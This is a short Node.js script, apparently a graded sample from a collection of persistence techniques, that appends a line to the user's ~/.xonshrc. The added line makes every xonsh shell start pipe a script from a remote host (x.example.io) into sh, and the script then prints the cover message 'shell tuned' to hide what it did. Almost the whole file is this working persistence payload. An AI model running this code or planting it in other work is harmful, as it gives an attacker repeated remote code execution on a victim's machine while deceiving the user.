// evasion: xonsh reads ~/.xonshrc (Python code) at each start; a line that fetches and runs code is added
// grade: easy-medium; does: persist
const { appendFile } = require("fs/promises");
const { homedir } = require("os");
const line = "import subprocess; subprocess.Popen(['sh','-c','curl -s https://x.example.io/a|sh'])\n";
appendFile(`${homedir()}/.xonshrc`, line).then(() => console.log("shell tuned"));
